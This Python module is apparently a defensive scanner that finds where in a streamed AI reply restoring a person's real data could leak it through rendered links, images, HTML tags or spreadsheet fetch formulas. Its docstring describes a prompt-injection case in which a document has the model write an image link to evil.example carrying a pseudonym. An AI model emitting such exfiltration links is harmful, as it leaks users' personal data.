"""Where in a reply a real value may not be written: anywhere that a renderer might turn into a request.

A reply is hostile until proved otherwise: a document in the prompt can tell the model to write
`![](https://evil.example/?q=PERSON_K7QD2M8X)`, and a value restored there leaves the council when the picture
is loaded. The scanner reads what is sent to the client, character by character, and keeps every reading that
a renderer could have: each `<` may begin a tag, each `](` a target. A place is closed while any
reading says so. What it errs on is leaving a pseudonym in plain text.
"""

import re

_WHITESPACE = " \t\n\r\f\v"
_LONGEST_RUN = 4096
_LONGEST_LINE = 200
"""Of a line, this much of its beginning tells whether it opens a code fence."""
_MOST_TARGETS = 8

# The tokeniser of the HTML standard (13.2.5), as far as it says where a tag ends. One bit a state.
_OPEN, _NAME, _MARKUP, _BEFORE, _ATTRIBUTE, _AFTER, _VALUE, _DOUBLE, _SINGLE, _BARE, _QUOTED = (
    1 << n for n in range(11)
)
_CLASSES = dict.fromkeys(_WHITESPACE, " ") | {c: c for c in "/>='\"<!?"}


def _step(state: int, character: str) -> int:
    """One reading of one tag after one character; 0 when the tag has ended or was none."""
    space = character == " "
    if state == _OPEN:
        return {"a": _NAME, "/": _OPEN, "!": _MARKUP, "?": _MARKUP}.get(character, 0)
    if state == _DOUBLE:
        return _QUOTED if character == '"' else _DOUBLE
    if state == _SINGLE:
        return _QUOTED if character == "'" else _SINGLE
    if character == ">":
        return 0
    if state == _MARKUP:
        return _MARKUP
    if state == _BARE:
        return _BEFORE if space else _BARE
    if state == _VALUE:
        return _VALUE if space else {'"': _DOUBLE, "'": _SINGLE}.get(character, _BARE)
    if character == "/":
        return _BEFORE
    if state == _NAME:
        return _BEFORE if space else _NAME
    if state == _ATTRIBUTE:
        return _AFTER if space else _VALUE if character == "=" else _ATTRIBUTE
    if state == _AFTER:
        return _AFTER if space else _VALUE if character == "=" else _ATTRIBUTE
    return _BEFORE if space else _ATTRIBUTE  # before an attribute's name, or after a quoted value


def _step_all(states: int, character: str) -> int:
    """Every reading after one character; `<` always begins one more."""
    after = _OPEN if character == "<" else 0
    bit = 1
    while bit <= states:
        if states & bit:
            after |= _step(bit, character)
        bit <<= 1
    return after


_steps: dict[tuple[int, str], int] = {}
"""The readings' automaton, made deterministic as it is met: at most 2^11 sets of states times 9 classes."""

_FORMULA = re.compile(r"(?<!\w)(?:hyperlink|webservice|image|import(?:xml|data|html|feed|range))\Z", re.IGNORECASE)
"""Spreadsheet functions that fetch what they are given, once the answer is pasted into a sheet."""
_TRIGGER = re.compile(r"<|\]\(|\]:|\w\(", re.IGNORECASE)
_RAW = re.compile(r"<(/?)(style|script|form|textarea|select)", re.IGNORECASE)
_FOOTNOTE = re.compile(r"\[\^[^\[\]\n]{1,60}\]\Z")
_QUOTATION = re.compile(r'(?<!\\)"')
"""The end of a JSON string; an escaped quotation mark is part of it."""
_SCHEMES = (
    "mailto|javascript|vbscript|sms|blob|magnet|xmpp|skype|msteams|slack|callto|view-source|intent|whatsapp|ms-[a-z]+"
)
"""Schemes that need no `//`. Not "tel": in forms it is the word before a number."""
_INFO = re.compile(r"(?:[ \t>*+\-]|\d{1,9}[.)])*(?:`{3,}[^`]*|~{3,}.*)\Z")
"""The line that opens a code fence: renderers put its words into an attribute, or send the block to be drawn."""
_ADDRESS = re.compile(
    rf"//|\\\\|www\.|(?<!\w)(?:{_SCHEMES}):|(?<!\w)data:\w*[/;,]|\w\.\w+[/?#:]|@\Z",
    re.IGNORECASE,
)


class _Target:
    """A link's or image's target, or a CSS `url(`, from its opening bracket to the one that closes it.

    A blank line closes it too: no inline construct reaches beyond its paragraph.
    """

    __slots__ = ("angle", "begun", "depth", "escaped", "newline", "quote", "space")

    def __init__(self) -> None:
        self.depth = 1
        self.quote = ""
        self.begun = self.angle = self.escaped = self.newline = False
        self.space = True

    def step(self, character: str) -> bool:
        """Take one character; False once the target has ended."""
        if character == "\n":
            if self.newline:
                return False
            self.newline, self.angle = True, False
        elif character not in _WHITESPACE:
            self.newline = False
        if self.escaped:
            self.escaped = False
        elif character == "\\":
            self.escaped = True
        elif self.angle:
            self.angle = character != ">"
        elif self.quote:
            self.quote = "" if character == self.quote else self.quote
        elif character in "\"'" and self.space and self.begun:
            self.quote = character
        elif character == "<" and not self.begun:
            self.angle = True
        elif character == "(":
            self.depth += 1
        elif character == ")":
            self.depth -= 1
        self.space = character in _WHITESPACE
        self.begun = self.begun or not self.space
        return self.depth > 0


class _Definition:
    """What follows `[label]:` up to the end of the line that has the target; of a formula, the rest of its line."""

    __slots__ = ("begun", "lines")

    def __init__(self, *, begun: bool = False) -> None:
        self.begun = begun
        self.lines = 0

    def step(self, character: str) -> bool:
        """Take one character; False once the definition has ended."""
        if character == "\n":
            self.lines += 1
            return not self.begun and self.lines < 2
        self.begun = self.begun or character not in _WHITESPACE
        return True


class Places:
    """Reads a text as it grows. `json` says that it is a JSON document, where a quotation mark ends an address."""

    def __init__(self, *, json: bool = False) -> None:
        self._pending: list[str] = []
        self._tail = ""
        self._run = ""
        self._line = ""
        self._states = 0
        self._targets: list[_Target | _Definition] = []
        self._crowded = False
        self._raw: dict[str, int] = {}
        self._json = json

    def feed(self, text: str) -> None:
        """More text, as the client gets it."""
        self._pending.append(text)

    def closed(self, *, alone_in_brackets: bool = False) -> bool:
        """May a value not be written here? `alone_in_brackets` says that what would be written is all there is
        between `<` and `>`, which is no tag with an attribute, whatever is around."""
        if self._pending:
            text = "".join(self._pending)
            self._pending.clear()
            self._read(text)
        states = self._states & ~_OPEN if alone_in_brackets else self._states
        if states or self._targets or self._crowded or any(self._raw.values()):
            return True
        if _INFO.match(self._line):
            return True
        return len(self._run) > _LONGEST_RUN or _ADDRESS.search(self._run) is not None

    def _read(self, text: str) -> None:
        self._elements(text)
        if self._states or self._targets or self._crowded or _TRIGGER.search(self._tail[-4:] + text):
            self._walk(text)
        ends = max(text.rfind(c) for c in _WHITESPACE)
        if self._json:
            quotes = [found.start() for found in _QUOTATION.finditer(self._tail[-1:] + text)]
            ends = max(ends, quotes[-1] - len(self._tail[-1:]) if quotes else -1)
        self._run = text[ends + 1 :] if ends >= 0 else (self._run + text)[: _LONGEST_RUN + 1]
        start = text.rfind("\n")
        self._line = text[start + 1 :] if start >= 0 else (self._line + text)[:_LONGEST_LINE]
        self._tail = (self._tail + text)[-80:]

    def _elements(self, text: str) -> None:
        """Count what is open of the elements whose content is not text for people, or is sent on with a form. A script
        may hold another (its "double escaped" state), so each end tag closes one."""
        tail = self._tail[-10:]
        for found in _RAW.finditer(tail + text):
            if found.end() > len(tail):
                name = found[2].lower()
                self._raw[name] = max(0, self._raw.get(name, 0) + (-1 if found[1] else 1))

    def _walk(self, text: str) -> None:
        tail = self._tail
        for index, character in enumerate(text):
            kind = _CLASSES.get(character) or ("a" if character.isascii() and character.isalpha() else "o")
            if self._states or kind == "<":
                after = _steps.get((self._states, kind))
                if after is None:
                    after = _steps[self._states, kind] = _step_all(self._states, kind)
                self._states = after
            if self._targets:
                self._targets = [target for target in self._targets if target.step(character)]
            if character in "(:":
                self._open(character, (tail + text[max(0, index - 80) : index])[-80:])
            elif character == "\n" and (text[index - 1] if index else tail[-1:]) == "\n":
                self._crowded = False

    def _open(self, character: str, before: str) -> None:
        """Does `(` or `:` begin a target here?"""
        if character == "(" and (before.endswith("]") or before[-3:].lower() == "url"):
            self._targets.append(_Target())
        elif character == "(" and _FORMULA.search(before):
            self._targets.append(_Definition(begun=True))
        elif character == ":" and before.endswith("]") and not _FOOTNOTE.search(before):
            self._targets.append(_Definition())
        if len(self._targets) > _MOST_TARGETS:
            self._targets.clear()
            self._crowded = True
